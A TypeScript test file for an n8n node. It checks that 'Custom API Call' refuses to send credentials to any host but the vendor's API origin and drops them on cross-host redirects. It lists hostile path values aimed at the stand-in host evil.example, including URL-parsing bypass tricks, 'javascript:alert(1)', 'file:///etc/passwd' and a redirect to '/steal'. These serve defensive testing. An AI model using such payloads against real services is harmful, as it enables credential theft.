/**
 * Custom API Call cannot carry the credential off the vendor's API host: for all 11 credential types, run
 * through the real node in n8n-core's ExecuteContext, every path that names another host (absolute http or
 * https, protocol-relative, backslash and userinfo tricks, the vendor's own host over plain http) is refused
 * before anything is sent, with an error naming the vendor. A relative path and an absolute URL on the
 * connection's own API origin still work. The rule is the shared one (shared/oauth/hosts.ts, rule 2), the same
 * one Zapier's API Request applies.
 */
import nock from 'nock';
import { NodeOperationError } from 'n8n-workflow';

import { NodeRunner } from '../n8n/nodes/node-runner';
import { allConnections, type Connection } from './connections';
import { Traffic } from './traffic';

const EVIL = ['https://evil.example', 'http://evil.example', 'https://evil.example:8443'];

/** Paths an attacker (or a careless expression) could put in the Path field. `host` is the API host. */
function hostilePaths(apiBase: string): string[] {
	const { host, origin } = new URL(apiBase);
	return [
		'https://evil.example/x',
		'http://evil.example/x',
		'HTTPS://EVIL.EXAMPLE/x',
		'//evil.example/x',
		'\\\\evil.example/x',
		'/\\evil.example/x',
		'https:\\\\evil.example/x',
		' https://evil.example/x',
		'\thttps://evil.example/x',
		'https://evil.example:8443/x',
		`https://${host}@evil.example/x`,
		`https://${host}:pw@evil.example/x`,
		`https://evil.example#@${host}/x`,
		`https://evil.example?@${host}/x`,
		`https://${host}.evil.example/x`,
		`http://${host}/x`, // the vendor's own host, but plain http
		`${origin.replace('https://', 'https://user@')}/x`, // userinfo on the right host
		'ftp://evil.example/x',
		'javascript:alert(1)',
		'file:///etc/passwd',
	];
}

/** A node call for this connection with the given Custom API Call path. */
async function customCall(connection: Connection, path: string, traffic: Traffic) {
	const runner = new NodeRunner(connection.node()).useCredential(connection.type, connection.data);
	traffic.intercept(new URL(connection.apiBase).origin, () => [200, { status: 'ok', success: true, data: [] }]);
	for (const origin of EVIL) traffic.intercept(origin);
	traffic.intercept(`http://${new URL(connection.apiBase).host}`);
	return await runner.execute({ resource: 'customApiCall', operation: 'request', method: 'GET', path }).then(
		(output) => ({ output, error: undefined }),
		(error: unknown) => ({ output: undefined, error }),
	);
}

const connections = allConnections('origin');
const cases = connections.flatMap((c) => hostilePaths(c.apiBase).map((path) => [c.type, JSON.stringify(path), c, path] as const));
let refused = 0;

afterAll(() => {
	// eslint-disable-next-line no-console
	console.log(`custom-call origin: ${refused} hostile paths refused before sending, over ${connections.length} credential types`);
});

describe.each(connections.map((c) => [c.type, c] as const))('%s', (_type, connection) => {
	test('a relative path and an absolute URL on the API origin are sent with the credential', async () => {
		const traffic = new Traffic();
		try {
			const relative = await customCall(connection, '/probe', traffic);
			expect(relative.error).toBeUndefined();
			const absolute = await customCall(connection, `${connection.apiBase}/probe`, traffic);
			expect(absolute.error).toBeUndefined();
		} finally {
			traffic.stop();
		}
		const sent = traffic.seen.filter((r) => !r.unmatched);
		expect(sent.map((r) => new URL(r.url).pathname)).toEqual([`${new URL(connection.apiBase).pathname}/probe`, `${new URL(connection.apiBase).pathname}/probe`]);
		expect(sent.every((r) => r.url.startsWith(connection.apiBase))).toBe(true);
		// …with the credential applied: the token in a header or the query, or the admin key's signature.
		const token = connection.secrets.accessToken;
		for (const r of sent) {
			const carried = token ? JSON.stringify(r.headers).includes(token) || r.url.includes(token) : /[?&]hash=[0-9a-f]{32}$/.test(r.url);
			expect(carried).toBe(true);
		}
	});
});

test.each(connections.map((c) => [c.type, c] as const))('%s: a redirect to another host does not take the credential along', async (_type, connection) => {
	const traffic = new Traffic();
	const apiOrigin = new URL(connection.apiBase).origin;
	try {
		// Every API answer is a redirect to a foreign host (as a compromised or misconfigured endpoint could send).
		for (const method of ['GET', 'POST']) {
			nock(apiOrigin)
				.persist()
				.intercept(() => true, method)
				.reply(302, '', { Location: 'https://evil.example/steal' });
		}
		traffic.intercept('https://evil.example', () => [200, { status: 'ok', success: true }]);
		const runner = new NodeRunner(connection.node()).useCredential(connection.type, connection.data);
		await runner.execute({ resource: 'customApiCall', operation: 'request', method: 'GET', path: '/probe' }).catch((e: unknown) => e);
	} finally {
		traffic.stop();
	}
	const atEvil = traffic.seen.filter((r) => r.url.startsWith('https://evil.example'));
	expect(atEvil.length).toBeLessThanOrEqual(1);
	for (const r of atEvil) {
		expect(r.headers.authorization).toBeUndefined();
		for (const value of Object.values(connection.secrets)) expect(JSON.stringify(r)).not.toContain(value);
	}
});

test.each(cases)('%s: %s is refused before sending', async (_type, _shown, connection, path) => {
	const traffic = new Traffic();
	let result: Awaited<ReturnType<typeof customCall>>;
	try {
		result = await customCall(connection, path, traffic);
	} finally {
		traffic.stop();
	}
	expect(traffic.seen).toEqual([]);
	expect(result.output).toBeUndefined();
	expect(result.error).toBeInstanceOf(NodeOperationError);
	const message = (result.error as Error).message;
	expect(message).toContain(connection.vendor.displayName);
	expect(message).toMatch(/refused before sending/);
	for (const value of Object.values(connection.secrets)) expect(message).not.toContain(value);
	refused++;
});
